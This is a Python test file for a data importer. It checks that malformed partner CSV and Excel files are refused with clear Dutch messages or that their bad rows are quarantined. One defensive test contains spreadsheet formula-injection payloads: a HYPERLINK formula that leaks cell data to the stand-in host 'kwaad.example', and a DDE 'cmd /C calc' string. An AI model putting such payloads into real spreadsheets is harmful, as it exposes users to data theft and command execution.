"""Malformed partner files: a clear message for the whole file, or the bad row quarantined; never lost."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select

from plein.core.models import Record
from plein.errors import ValidationError
from plein.ingest.importer import RunSummary, import_file
from plein.ingest.models import IngestRun, QuarantinedRow
from plein.store.engine import session_factory
from tests.ingest.helpers import HEADER, csv_rows, test_source


def _write(tmp_path: Path, name: str, content: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(content)
    return path


def _balanced(engine: Engine, summary: RunSummary) -> None:
    assert summary.rows_in == summary.rows_stored + summary.rows_quarantined
    with session_factory(engine)() as session:
        records = session.scalar(select(func.count()).select_from(Record)) or 0
        quarantined = session.scalar(select(func.count()).select_from(QuarantinedRow)) or 0
    assert records == summary.rows_new
    assert quarantined == summary.rows_quarantined


def _reasons(engine: Engine) -> list[str]:
    with session_factory(engine)() as session:
        return list(session.scalars(select(QuarantinedRow.reason).order_by(QuarantinedRow.row_number)))


def test_zero_byte_file_is_refused_with_a_clear_message(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    with pytest.raises(ValidationError, match="leeg \\(0 bytes\\)"):
        import_file(engine, source, _write(tmp_path, "leeg.csv", b""))
    with session_factory(engine)() as session:
        run = session.scalars(select(IngestRun)).one()
    assert run.status == "geweigerd"
    assert "0 bytes" in run.messages[0]


def test_header_only_file_imports_nothing_and_says_so(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    summary = import_file(engine, source, _write(tmp_path, "kop.csv", (HEADER + "\n").encode()))
    assert summary.rows_in == 0
    assert "geen gegevensregels" in summary.messages[-1]


def test_binary_file_named_csv_is_refused(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    path = _write(tmp_path, "export.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    with pytest.raises(ValidationError, match="geen tekstbestand"):
        import_file(engine, source, path)


def test_wrong_delimiter_names_the_delimiter(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    content = "\n".join([HEADER.replace(";", ","), *(r.replace(";", ",") for r in csv_rows(3))])
    with pytest.raises(ValidationError, match="lijkt ',' als scheidingsteken"):
        import_file(engine, source, _write(tmp_path, "komma.csv", content.encode()))


def test_wrong_encoding_is_refused_with_the_fix(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    content = "\n".join([HEADER, "Z-1;01-03-2024;Café Größe B.V.;12345678;1234 AB;1;GO;0;geen"])
    with pytest.raises(ValidationError, match=r"niet in utf-8 gecodeerd.*cp1252"):
        import_file(engine, source, _write(tmp_path, "ansi.csv", content.encode("cp1252")))


def test_bad_bytes_late_in_the_file_quarantine_only_that_row(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    rows = csv_rows(3000)
    content = ("\n".join([HEADER, *rows]) + "\n").encode() + "Z-X;01-03-2024;Café;;;;GO;0;x\n".encode("cp1252")
    summary = import_file(engine, source, _write(tmp_path, "laat.csv", content))
    assert (summary.rows_in, summary.rows_new, summary.rows_quarantined) == (3001, 3000, 1)
    assert "codering" in _reasons(engine)[0]
    _balanced(engine, summary)


def test_truncated_file_quarantines_the_cut_row(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    rows = csv_rows(5)
    content = "\n".join([HEADER, *rows[:4], rows[4][:25]])
    summary = import_file(engine, source, _write(tmp_path, "afgebroken.csv", content.encode()))
    assert (summary.rows_in, summary.rows_new, summary.rows_quarantined) == (5, 4, 1)
    assert "afgebroken" in _reasons(engine)[0]
    _balanced(engine, summary)


def test_unclosed_quote_at_the_end_is_quarantined(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    content = "\n".join([HEADER, *csv_rows(2), 'Z-9;01-03-2024;"Bedrijf zonder eind'])
    summary = import_file(engine, source, _write(tmp_path, "quote.csv", content.encode()))
    assert summary.rows_in == summary.rows_stored + summary.rows_quarantined == 3
    assert summary.rows_quarantined == 1
    _balanced(engine, summary)


def test_mixed_date_formats_parse_known_ones_and_quarantine_the_rest(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    content = "\n".join(
        [
            HEADER,
            "Z-1;05-03-2024;A;;1234 AB;1;GO;0;x",
            "Z-2;2024-03-06;B;;1234 AB;2;GO;0;x",
            "Z-3;03/07/2024;C;;1234 AB;3;GO;0;x",
            "Z-4;31-02-2024;D;;1234 AB;4;GO;0;x",
        ]
    )
    summary = import_file(engine, source, _write(tmp_path, "datums.csv", content.encode()))
    assert (summary.rows_new, summary.rows_quarantined) == (2, 2)
    reasons = _reasons(engine)
    assert "'03/07/2024'" in reasons[0] and "dd-mm-jjjj of jjjj-mm-dd" in reasons[0]
    assert "'31-02-2024'" in reasons[1]
    with session_factory(engine)() as session:
        dates = sorted(str(d) for d in session.scalars(select(Record.occurred_on)))
    assert dates == ["2024-03-05", "2024-03-06"]
    _balanced(engine, summary)


def test_unknown_code_and_missing_key_are_quarantined_with_reasons(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine)
    content = "\n".join([HEADER, "Z-1;05-03-2024;A;;1234 AB;1;XYZ;0;x", ";05-03-2024;B;;1234 AB;1;GO;0;x"])
    summary = import_file(engine, source, _write(tmp_path, "codes.csv", content.encode()))
    assert summary.rows_quarantined == 2
    reasons = _reasons(engine)
    assert "'XYZ'" in reasons[0] and "codelijst" in reasons[0]
    assert "sleutelkolom 'Zaak' is leeg" in reasons[1]


XLSX_MAPPING = """
name: test-xlsx
format: xlsx
record_kind: inspectie
key: [Zaak]
fields:
  occurred_on: {column: Datum, required: true}
  reported_name: {column: Naam}
  theme_code: {value: afval}
  outcome: {column: Uitkomst, map: {GO: geen_overtreding}}
  severity: {value: geen}
  findings: {column: Bevindingen}
"""


def test_formula_injection_in_xlsx_is_quarantined_not_stored(engine: Engine, tmp_path: Path) -> None:
    import datetime as dt

    from openpyxl import Workbook

    source = test_source(engine, XLSX_MAPPING, code="test-xlsx")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Zaak", "Datum", "Naam", "Uitkomst", "Bevindingen"])
    sheet.append(["Z-1", dt.date(2024, 3, 5), "Gewoon B.V.", "GO", "geen"])
    sheet.append(["Z-2", dt.date(2024, 3, 5), '=HYPERLINK("http://kwaad.example/?"&A1,"klik")', "GO", "x"])
    sheet.append(["Z-3", dt.date(2024, 3, 5), "Netjes", "GO", "@SUM(1+1)*cmd|' /C calc'!A0"])
    sheet.append(["Z-4", "2024-03-07", "Tekstdatum", "GO", "prima"])
    path = tmp_path / "export.xlsx"
    workbook.save(path)
    summary = import_file(engine, source, path)
    assert (summary.rows_in, summary.rows_new, summary.rows_quarantined) == (4, 2, 2)
    reasons = _reasons(engine)
    assert all("formule" in reason for reason in reasons)
    with session_factory(engine)() as session:
        names = set(session.scalars(select(Record.reported_name)))
        raw = [q.raw for q in session.scalars(select(QuarantinedRow))]
    assert names == {"Gewoon B.V.", "Tekstdatum"}
    assert raw[0]["Naam"].startswith("=HYPERLINK")  # kept verbatim in quarantine for the beheerder
    _balanced(engine, summary)


def test_corrupt_xlsx_is_refused(engine: Engine, tmp_path: Path) -> None:
    source = test_source(engine, XLSX_MAPPING, code="test-xlsx")
    buffer = io.BytesIO()
    from openpyxl import Workbook

    Workbook().save(buffer)
    path = _write(tmp_path, "half.xlsx", buffer.getvalue()[:200])
    with pytest.raises(ValidationError, match="Excel-bestand"):
        import_file(engine, source, path)
